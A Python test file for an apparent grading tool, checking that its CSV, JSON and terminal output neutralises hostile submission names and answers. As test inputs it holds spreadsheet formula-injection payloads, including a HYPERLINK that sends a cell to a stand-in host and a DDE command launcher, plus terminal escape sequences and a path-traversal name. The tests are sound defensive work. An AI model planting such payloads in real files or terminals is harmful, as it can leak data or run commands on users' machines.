"""Attacks on the grader's outputs (issue 9, items 3 and 4): names that break encoders or file
systems, spreadsheet formulas, terminal escapes. One submission's bytes touch only its own row."""

from __future__ import annotations

import csv
import json
import os
import shutil
from pathlib import Path

from click.testing import CliRunner

from cli import cli
from grader.results import EXIT_PENDING
from grader.writers.safe import clean, csv_cell, file_stem, unique_stems

EXAMPLE = Path(__file__).resolve().parent.parent / "examples" / "submission"
ESC = "\x1b]0;owned\x07\x1b[2J\x1b[31m"


def submission(root: Path, folder: str | bytes, student_yaml: str | None = None) -> Path:
    path = Path(os.fsdecode(os.path.join(os.fsencode(root), os.fsencode(folder))))
    shutil.copytree(EXAMPLE, path)
    (path / "student.yaml").unlink()
    if student_yaml is not None:
        (path / "student.yaml").write_text(student_yaml, encoding="utf-8")
    return path


def grade_batch(root: Path, out: Path) -> tuple[list[dict[str, str]], str]:
    res = CliRunner().invoke(cli, ["grade", str(root), "--batch", "--out", str(out), "--parts",
                                   "A", "--jobs", "2"])
    assert res.exit_code in (0, EXIT_PENDING), res.output  # 4: an answer waits for review
    text = (out / "gradebook.csv").read_bytes().decode("utf-8")  # strict: valid UTF-8
    return list(csv.DictReader(text.splitlines())), res.stdout


def assert_printable(text: str) -> None:
    bad = {c for c in text if (ord(c) < 32 and c != "\n") or 0x7f <= ord(c) <= 0x9f
           or 0xd800 <= ord(c) <= 0xdfff or c in "\u202e\u2066"}
    assert not bad, bad


def test_bad_names_affect_only_their_own_row(tmp_path):
    root = tmp_path / "class"
    root.mkdir()
    submission(root, "good1")
    submission(root, "surrogate", 'name: "Eve \\uDC80 Doe"\n')  # a lone surrogate, via YAML
    submission(root, b"caf\xe9-\xff")  # not UTF-8
    long = "L" * 245
    submission(root, long)
    submission(root, "good2")
    rows, output = grade_batch(root, tmp_path / "out")
    assert len(rows) == 5 and all(r["status"] == "graded" and r["total"] == "50" for r in rows)
    by_folder = {r["folder"]: r for r in rows}
    assert by_folder["surrogate"]["name"] == "Eve \ufffd Doe"
    assert "caf\\xe9-\\xff" in by_folder  # undecodable bytes shown escaped, not dropped
    students = sorted(p.name for p in (tmp_path / "out" / "students").glob("*.json"))
    assert len(students) == 5 and all(len(n) <= 110 for n in students)
    pages = sorted(p.name for p in (tmp_path / "out" / "students").glob("*.html"))
    assert pages == [n.replace(".json", ".html") for n in students]  # the site's, same stems
    assert "good1.json" in students and "good2.json" in students
    assert any(n.startswith("L" * 80) and n != f"{long}.json" for n in students)
    for p in (tmp_path / "out" / "students").glob("*.json"):
        data = json.loads(p.read_bytes().decode("utf-8"))
        assert data["score"] == 50.0
    assert_printable(output)


def test_output_names_are_unique_per_submission(tmp_path):
    # A folder named like another's hashed stem, and two that differ only in case (one file
    # on a case-insensitive disk): every row keeps its own page and JSON, also on --resume.
    root = tmp_path / "class"
    root.mkdir()
    twin = file_stem("José Ñ")
    assert twin.startswith("Jos-")
    names = ["José Ñ", twin, "Ann", "ann"]
    for name, answers in zip(names, (True, False, True, False)):
        path = submission(root, name)
        if not answers:
            (path / "answers.yaml").write_text("q1: {z1: 0}\n")
    for attempt in ("first", "resume"):
        args = ["grade", str(root), "--batch", "--out", str(tmp_path / "out"), "--parts", "A",
                "--jobs", "2"] + (["--resume"] if attempt == "resume" else [])
        res = CliRunner().invoke(cli, args)
        assert res.exit_code == 0, res.output
        rows = {r["folder"]: r for r in csv.DictReader(
            (tmp_path / "out" / "gradebook.csv").open(encoding="utf-8"))}
        assert set(rows) == set(names)
        students = {p.stem.casefold() for p in (tmp_path / "out" / "students").glob("*.json")}
        assert len(students) == 4
        for name, answers in zip(names, (True, False, True, False)):
            data = json.loads(next(
                p for p in (tmp_path / "out" / "students").glob("*.json")
                if json.loads(p.read_text())["folder"] == name).read_text())
            assert (data["score"] == 50.0) == answers, (attempt, name, data["score"])
    stems = unique_stems(names + [f"{file_stem('Ann', hashed=True)}"])
    assert len({v.casefold() for v in stems.values()}) == 5


def test_json_format_is_valid_utf8_whatever_the_name(tmp_path):
    sub = submission(tmp_path, "s1", 'id: s1\nname: "\\uDC80\\uD800x\\x1b[2J"\n')
    res = CliRunner().invoke(cli, ["grade", str(sub), "--parts", "A", "--format", "json"])
    assert res.exit_code == 0, res.output
    data = json.loads(res.stdout_bytes.decode("utf-8"))
    assert data["name"] == "\ufffd\ufffdx[2J"
    gs = CliRunner().invoke(cli, ["grade", str(sub), "--parts", "A", "--format", "gradescope"])
    json.loads(gs.stdout_bytes.decode("utf-8"))


def test_formulas_never_reach_the_spreadsheet_live(tmp_path):
    root = tmp_path / "class"
    root.mkdir()
    payloads = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
                "-2+3", "@SUM(A1:A9)", "\tTAB=1", "\rCR=1"]
    for k, p in enumerate(payloads):
        submission(root, f"s{k}", json.dumps({"name": p}))
    submission(root, "=1+1")  # a folder name is a cell too
    rows, _ = grade_batch(root, tmp_path / "out")
    cells = [c for r in rows for c in r.values()]
    assert not [c for c in cells if c and c.lstrip(" ")[0] in "=+-@\t\r"], cells
    names = {r["folder"]: r["name"] for r in rows}
    assert names["s0"] == "'" + payloads[0] and names["s3"] == "'@SUM(A1:A9)"
    assert names["s4"] == " TAB=1" and names["s5"] == " CR=1"  # controls became spaces
    assert "'=1+1" in {r["folder"] for r in rows}
    assert all(r["total"] == "50" for r in rows)


def test_csv_cell_keeps_numbers_numeric():
    assert csv_cell("-1.5") == "-1.5" and csv_cell("+2e-3") == "+2e-3" and csv_cell(-1.5) == -1.5
    assert csv_cell(" =1") == "' =1" and csv_cell("-1+2") == "'-1+2"
    assert csv_cell("=1") == "'=1" and csv_cell("a=1") == "a=1"


def test_escape_sequences_never_reach_the_terminal(tmp_path):
    sub = submission(tmp_path, "s1", json.dumps({"name": f"Mal{ESC}lory\u202eevil"}))
    (sub / "answers.yaml").write_text(json.dumps({
        "q6": {"derivative": f"1 - tanh(z)**2{ESC}", f"dL_dw{ESC}": "x"},
        f"q1{ESC}": {"z1": 0.56}}))
    for form in ("json", "gradescope", "table"):
        res = CliRunner().invoke(cli, ["grade", str(sub), "--parts", "A", "--format", form])
        assert res.exit_code in (0, 1, EXIT_PENDING), res.output
        assert "\x1b" not in res.output and "\x07" not in res.output
        assert_printable(res.output)
        if form != "table":
            json.loads(res.output)
    assert "Mal]0;owned[2J[31mloryevil" in res.output  # the table's head line: text kept


def test_surrogates_anywhere_in_answers_are_one_row(tmp_path):
    # Found by the fuzz: a JSON-escaped surrogate pair as a question id (YAML reads two lone
    # surrogates) used to crash the message that names unknown ids.
    root = tmp_path / "class"
    sub = submission(root, "s0")
    (sub / "answers.yaml").write_text('{"\\ud800\\udc00": 1, "q1": {"\\udc80": 2}}\n')
    submission(root, "s1")
    rows, _ = grade_batch(root, tmp_path / "out")
    # s0's q1 holds only an unknown id: its answers wait for review, none is a silent zero.
    assert [r["status"] for r in rows] == ["review", "graded"]
    data = json.loads((tmp_path / "out" / "students" / "s0.json").read_text())
    assert "unknown question id(s) \ufffd\ufffd ignored" in data["problems"][0]


def test_clean_and_file_stem():
    assert clean({"a\x1b": ["x\ud800", 1.5, float("inf")]}) == {"a": ["x\ufffd", 1.5, "inf"]}
    assert file_stem("s001") == "s001"
    assert file_stem("../../etc") != file_stem("..__etc") and "/" not in file_stem("../../etc")
    assert len(file_stem("x" * 300)) <= 100
    assert file_stem("a b") != file_stem("a_b") and file_stem(".hidden")[0] != "."
